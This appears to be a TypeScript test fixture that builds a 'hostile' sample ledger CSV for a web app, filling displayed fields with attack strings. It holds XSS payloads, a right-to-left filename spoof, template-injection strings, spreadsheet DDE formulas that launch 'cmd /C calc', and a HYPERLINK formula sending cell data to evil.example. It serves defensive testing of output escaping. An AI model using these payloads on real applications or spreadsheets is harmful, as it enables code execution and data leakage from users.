import Papa from 'papaparse';
import { sampleLedgerCsv } from '../../../scripts/sample/ledger';

/**
 * Strings that run script, break out of markup, template or CSV context, or spoof text direction, if any screen
 * treats data as anything but text. Each script payload calls `__xss(n)`: the trap (trap.ts) records the call.
 */
export const XSS = {
  img: '<img src=x onerror=__xss(1)>',
  svg: '<svg onload=__xss(2)>',
  script: '"><script>__xss(3)</script>',
  jsUrl: 'javascript:__xss(4)',
  template: "{{constructor.constructor('__xss(5)')()}}",
  rtl: '\u202Eexe.gnp\u202C 账单',
  anchor: '<a href="javascript:__xss(6)">付款</a>',
  iframe: '<iframe srcdoc="<script>parent.__xss(7)</script>"></iframe>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a literal ${…} placeholder
  interpolation: '${__xss(8)}<%= __xss(9) %>',
  styleAttr: '<div style="background:url(javascript:__xss(10))" onclick=__xss(11)>',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"点我")',
  dde: "+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd|" /C calc"!A0',
  minus: '-2+3+cmd|" /C calc"!A0',
  long: `超长${'长'.repeat(3000)}`,
} as const;

/** Markup fragments that must never become elements anywhere: what the DOM check looks for besides on* attributes. */
export const SCRIPT_MARKERS = ['__xss'];

/** The hostile ledger's customer names, by code (the anchors keep their CRM ids and e-mail domains). */
export const HOSTILE_NAMES: Record<string, string> = {
  C0001: `${XSS.img}${XSS.script} 星河`,
  C0002: `${XSS.rtl} Harbor ${XSS.svg}`,
  C0003: `${XSS.template} 蓝海`,
  C0004: `${XSS.jsUrl} Müller`,
  C0005: XSS.formula,
};

/**
 * The sample ledger's five anchor customers with a hostile string in every field that reaches a screen: customer
 * names, owners, contact names, invoice numbers and notes, plus one customer whose name is 3,000 characters and a
 * contact row with an e-mail that is markup (an import issue, shown in the issues table).
 */
export function hostileLedgerCsv(asOf: string): string {
  const rows = Papa.parse<Record<string, string>>(sampleLedgerCsv({ asOf }), { header: true, skipEmptyLines: true }).data;
  const anchors = rows.filter((r) => (r.customer_code ?? '') in HOSTILE_NAMES);
  const invoicePayloads = [XSS.img, XSS.anchor, XSS.formula, XSS.template, XSS.dde, XSS.iframe, XSS.at, XSS.minus, XSS.interpolation];
  const notePayloads = [XSS.script, XSS.styleAttr, XSS.svg, XSS.long, XSS.jsUrl];
  let n = 0;
  const out: Record<string, string>[] = anchors.map((r) => {
    const i = n++;
    return {
      ...r,
      customer_name: HOSTILE_NAMES[r.customer_code!]!,
      owner: i % 2 === 0 ? XSS.svg : XSS.dde,
      contact_name: r.contact_name ? `${r.contact_name}${i % 2 === 0 ? XSS.img : XSS.anchor}` : '',
      invoice_number: r.invoice_number ? `${r.invoice_number}${invoicePayloads[i % invoicePayloads.length]}` : '',
      note: notePayloads[i % notePayloads.length]!,
    };
  });
  const first = out[0]!;
  out.push({ ...first, customer_code: 'H0001', customer_name: XSS.long, crm_ids: '', email_domains: 'long.example.cn', invoice_number: 'H-1', contact_name: '', contact_email: '' });
  out.push({ ...first, customer_code: 'H0002', customer_name: XSS.styleAttr, crm_ids: '', email_domains: 'attr.example.cn', invoice_number: `${XSS.minus}`, contact_email: `"><img src=x onerror=__xss(12)>@attr.example.cn` });
  return Papa.unparse(out, { columns: Object.keys(rows[0]!) });
}
